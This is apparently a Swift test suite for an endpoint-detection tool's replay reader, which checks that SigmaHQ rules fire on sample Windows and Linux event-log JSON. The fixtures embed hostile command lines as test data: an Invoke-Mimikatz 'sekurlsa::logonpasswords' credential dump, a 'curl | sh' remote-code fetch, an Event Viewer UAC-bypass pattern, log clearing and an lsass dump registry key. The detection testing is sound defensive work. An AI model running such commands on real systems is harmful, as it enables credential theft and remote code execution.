import EDRCore
import EDRDetect
import EDRSigma
import EDRWindowsEvents
import Foundation
import Testing

/// SigmaHQ's Windows rules as `edr replay` loads them: every logsource evaluated.
let replayRules: SigmaEngine? = {
    let dir = corpusRoot() + "/sigmahq/rules/windows"
    guard FileManager.default.fileExists(atPath: dir) else { return nil }
    return try? SigmaEngine.load(paths: [dir])
}()

/// `edr replay`'s record reader on Windows event log JSON, evaluated by SigmaHQ's rules.
@Suite("Replay of Windows event JSON")
struct ReplayTests {
    func parse(_ line: String) throws -> [Event] { try ReplayRecord.parse(Array(line.utf8)) }

    func fired(_ line: String) throws -> [SigmaRuleInfo] {
        let engine = try #require(replayRules)
        return try parse(line).flatMap { engine.evaluate($0).map(\.rule) }
    }

    static let hhTitle = "HH.EXE Execution", hhID = "68c8acb4-1b60-4890-8e82-3ddf7a6dba84"

    /// evtx_dump's shape: {"Event":{"System":{…"#attributes"…},"EventData":{…}}}.
    @Test func sysmonProcessCreationFromEvtxDump() throws {
        let line =
            ##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2024-05-01T12:00:00.1234567Z"}},"EventRecordID":4242,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WS01"},"EventData":{"RuleName":"-","UtcTime":"2024-05-01 12:00:00.123","ProcessGuid":"{1d6d3d4a-2e40-6632-1c01-000000001000}","ProcessId":6012,"Image":"C:\\Windows\\hh.exe","CommandLine":"\"C:\\Windows\\hh.exe\" C:\\Users\\Public\\Downloads\\invoice.chm","ParentImage":"C:\\Windows\\explorer.exe","User":"WS01\\alice","IntegrityLevel":"Medium"}}}"##
        let events = try parse(line)
        #expect(events.count == 1)
        let e = try #require(events.first)
        #expect(e.logsource == LogSource(product: "windows", category: "process_creation", service: "sysmon"))
        #expect(abs(e.timestamp - 1_714_564_800.1234567) < 1e-3)
        #expect(e["EventID"] == .int(1) && e["Channel"] == "Microsoft-Windows-Sysmon/Operational")
        #expect(e["Provider_Name"] == "Microsoft-Windows-Sysmon" && e["ProcessId"] == .int(6012))
        #expect(e["Image"] == "C:\\Windows\\hh.exe")
        let rules = try fired(line)
        #expect(rules.contains { $0.id == Self.hhID && $0.title == Self.hhTitle }, "\(rules.map(\.title))")
        let benign = line.replacingOccurrences(of: "invoice.chm", with: "notes.txt")
        #expect(try !fired(benign).contains { $0.id == Self.hhID })
    }

    /// Security 4688, the flat shape with `*_attributes` siblings and a string EventID:
    /// NewProcessName and ParentProcessName answer for Image and ParentImage.
    @Test func securityProcessCreation() throws {
        let line =
            ##"{"System":{"Provider_attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"{54849625-5478-4994-A5BA-3E3B0328C30D}"},"EventID":"4688","TimeCreated_attributes":{"SystemTime":"2024-05-01T12:00:01Z"},"Channel":"Security","Computer":"WS01"},"EventData":{"SubjectUserSid":"S-1-5-21-1-2-3-1001","SubjectUserName":"alice","SubjectLogonId":"0x3e7","NewProcessId":"0x1a2c","NewProcessName":"C:\\Windows\\System32\\cmd.exe","TokenElevationType":"%%1938","ProcessId":"0x1f40","CommandLine":"cmd.exe /c whoami","ParentProcessName":"C:\\Windows\\System32\\eventvwr.exe","MandatoryLabel":"S-1-16-12288"}}"##
        let e = try #require(try parse(line).first)
        #expect(e.logsource == LogSource(product: "windows", category: "process_creation", service: "security"))
        #expect(e["Image"] == "C:\\Windows\\System32\\cmd.exe" && e["ParentImage"] == "C:\\Windows\\System32\\eventvwr.exe")
        #expect(e["LogonId"] == "0x3e7" && e["NewProcessName"] == "C:\\Windows\\System32\\cmd.exe")
        #expect(e.timestamp == 1_714_564_801)
        let rules = try fired(line)
        #expect(
            rules.contains { $0.id == "be344333-921d-4c4d-8bb8-e584cf584780" && $0.title == "Potentially Suspicious Event Viewer Child Process" },
            "\(rules.map(\.title))")
        let benign = line.replacingOccurrences(of: "eventvwr.exe", with: "explorer.exe")
        #expect(try !fired(benign).contains { $0.id == "be344333-921d-4c4d-8bb8-e584cf584780" })
    }

    /// PowerShell 4104 as xmltodict writes it: "@Name" attributes, EventID as {"#text": …},
    /// EventData as a list of named Data elements.
    @Test func powerShellScriptBlockFromXmltodict() throws {
        let line =
            ##"{"Event":{"System":{"Provider":{"@Name":"Microsoft-Windows-PowerShell","@Guid":"{A0C1853B-5C40-4B15-8766-3CF1C58F985A}"},"EventID":{"#text":"4104"},"TimeCreated":{"@SystemTime":"2024-05-01T12:00:02.000Z"},"Channel":"Microsoft-Windows-PowerShell/Operational"},"EventData":{"Data":[{"@Name":"MessageNumber","#text":"1"},{"@Name":"MessageTotal","#text":"1"},{"@Name":"ScriptBlockText","#text":"$c = 'sekurlsa::logonpasswords'; Invoke-Mimikatz -Command $c"},{"@Name":"ScriptBlockId","#text":"9a3c7e55-1b2d-4e6f-8a9b-0c1d2e3f4a5b"},{"@Name":"Path"}]}}}"##
        let e = try #require(try parse(line).first)
        #expect(e.logsource == LogSource(product: "windows", category: "ps_script", service: "powershell"))
        #expect(e["EventID"] == .int(4104) && e["Path"] == "" && e["MessageTotal"] == "1")
        let rules = try fired(line)
        #expect(
            rules.contains { $0.id == "189e3b02-82b2-4b90-9662-411eb64486d4" && $0.title == "Potential Invoke-Mimikatz PowerShell Script" },
            "\(rules.map(\.title))")
        let benign = line.replacingOccurrences(of: "sekurlsa::logonpasswords", with: "Get-Date")
        #expect(try !fired(benign).contains { $0.id == "189e3b02-82b2-4b90-9662-411eb64486d4" })
    }

    /// A channel-based rule (logsource service only) and a Sysmon registry event that is
    /// evaluated under both registry_set and registry_event.
    @Test func serviceRulesAndRegistryUmbrella() throws {
        let cleared =
            ##"{"System":{"Provider":{"Name":"Microsoft-Windows-Eventlog"},"EventID":{"Value":1102},"Channel":"Security","TimeCreated":{"SystemTime":"2024-05-01T12:00:03Z"}},"UserData":{"LogFileCleared":{"SubjectUserName":"alice"}}}"##
        let e = try #require(try parse(cleared).first)
        #expect(e.logsource == LogSource(product: "windows", category: nil, service: "security"))
        #expect(e["LogFileCleared.SubjectUserName"] == "alice")
        #expect(try fired(cleared).contains { $0.id == "d99b79d2-0a6f-4f46-ad8b-260b6e17f982" && $0.title == "Security Eventlog Cleared" })
        let other = cleared.replacingOccurrences(of: "1102", with: "1100")
        #expect(try !fired(other).contains { $0.id == "d99b79d2-0a6f-4f46-ad8b-260b6e17f982" })

        let reg =
            ##"{"System":{"Provider":{"Name":"Microsoft-Windows-Sysmon"},"EventID":13,"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"EventType":"SetValue","Image":"C:\\Windows\\System32\\reg.exe","TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\lsass.exe\\ReportingMode","Details":"DWORD (0x00000002)"}}"##
        let events = try parse(reg)
        #expect(events.map(\.logsource.category) == ["registry_set", "registry_event"])
        #expect(try fired(reg).contains { $0.id == "55e29995-75e7-451a-bef0-6225e2f13597" })
        let key12 =
            ##"{"System":{"Provider":{"Name":"Microsoft-Windows-Sysmon"},"EventID":12,"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{"EventType":"DeleteKey","TargetObject":"HKLM\\X"}}"##
        #expect(try parse(key12).map(\.logsource.category) == ["registry_delete", "registry_event"])
    }

    @Test func linuxRecordsStillParse() throws {
        let line =
            ##"{"@timestamp":"2025-01-02T03:04:05Z","logsource":{"product":"linux","category":"process_creation"},"event":{"Image":"/usr/bin/curl","CommandLine":"curl -s http://x | sh","n":{"a":1}}}"##
        let events = try parse(line)
        #expect(events.count == 1)
        #expect(events[0].logsource == LogSource(product: "linux", category: "process_creation"))
        #expect(events[0]["Image"] == "/usr/bin/curl" && events[0]["n.a"] == .int(1))
    }

    @Test(arguments: [
        (
            ##"{"System":{"Provider":{"Name":"Microsoft-Windows-Sysmon"},"Channel":"Microsoft-Windows-Sysmon/Operational"},"EventData":{}}"##,
            "System.EventID is missing or not a number"
        ),
        (##"{"System":{"EventID":"twelve"},"EventData":{}}"##, "System.EventID is missing or not a number"),
        (##"{"System":{"EventID":1,"TimeCreated":{"SystemTime":"yesterday"}},"EventData":{}}"##, "unparsable System.TimeCreated SystemTime 'yesterday'"),
        (##"{"System":{"EventID":1},"EventData":[1,2]}"##, "EventData is not an object"),
        (##"{"Event":{"EventData":{}}}"##, "Windows record without a \"System\" object"),
        (##"{"System":{"EventID":1},"EventData":{"##, "invalid JSON at byte 38: expected a key"),
        (##"{"nothing":1}"##, "missing \"logsource\" object (or a Windows record's \"System\" or \"Event\" object)")
    ])
    func malformedLinesNameTheProblem(_ line: String, _ message: String) {
        do {
            let e = try parse(line)
            Issue.record("parsed: \(e)")
        } catch {
            #expect("\(error)".hasPrefix(message), "\(error)")
        }
    }
}
